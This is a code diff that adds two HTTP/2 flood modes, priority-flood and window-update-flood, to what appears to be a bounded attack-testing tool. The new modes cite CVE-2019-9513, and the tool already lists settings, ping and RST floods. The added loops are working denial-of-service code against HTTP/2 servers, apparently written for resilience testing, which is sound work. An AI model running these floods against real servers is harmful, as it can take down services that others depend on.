@@ -20,6 +20,8 @@ Attacks (--count and --seconds bound every loop; nothing runs longer than --seco
   empty-data          one tunnel, then --count empty DATA frames without END_STREAM
   settings-flood      --count SETTINGS frames, never reading (ACKs pile up at the server)
   ping-flood          --count PING frames, never reading
+  priority-flood      one tunnel, then --count PRIORITY frames (on idle streams), reading
+  window-update-flood one tunnel, then --count WINDOW_UPDATE(1) frames on the connection, reading
   headers             one stream whose header block is exactly the --header NAME=VALUE fields
                       (pseudo-headers too, in order); reports the answer
   inner-rst-flood     a tunnel to --authority (an HTTP/2 port), inside it h2c: GET + RST_STREAM,
@@ -291,6 +293,23 @@ def main():
             if i % 32 == 0:
                 p.flush(deadline=deadline)
                 p.pump(0)
+        p.flush(deadline=deadline)
+    elif a in ("priority-flood", "window-update-flood"):
+        # frames that cost the sender nothing and that no flow control bounds (CVE-2019-9513 and kin)
+        p.frame(hf.HeadersFrame(1, data=p.connect_headers(args.authority), flags=["END_HEADERS"]))
+        p.flush()
+        p.pump(0.5)
+        for i in range(args.count):
+            if time.time() > deadline or p.closed:
+                break
+            if a == "priority-flood":
+                p.frame(hf.PriorityFrame(101 + 2 * (i % 1000), depends_on=0, stream_weight=15))
+            else:
+                p.frame(hf.WindowUpdateFrame(0, window_increment=1))
+            if i % 50 == 49:
+                # read between bursts: a GOAWAY is seen before more bytes make the server's close a reset
+                p.flush(deadline=deadline)
+                p.pump(0.05)
         p.flush(deadline=deadline)
     elif a in ("settings-flood", "ping-flood"):
         for i in range(args.count):
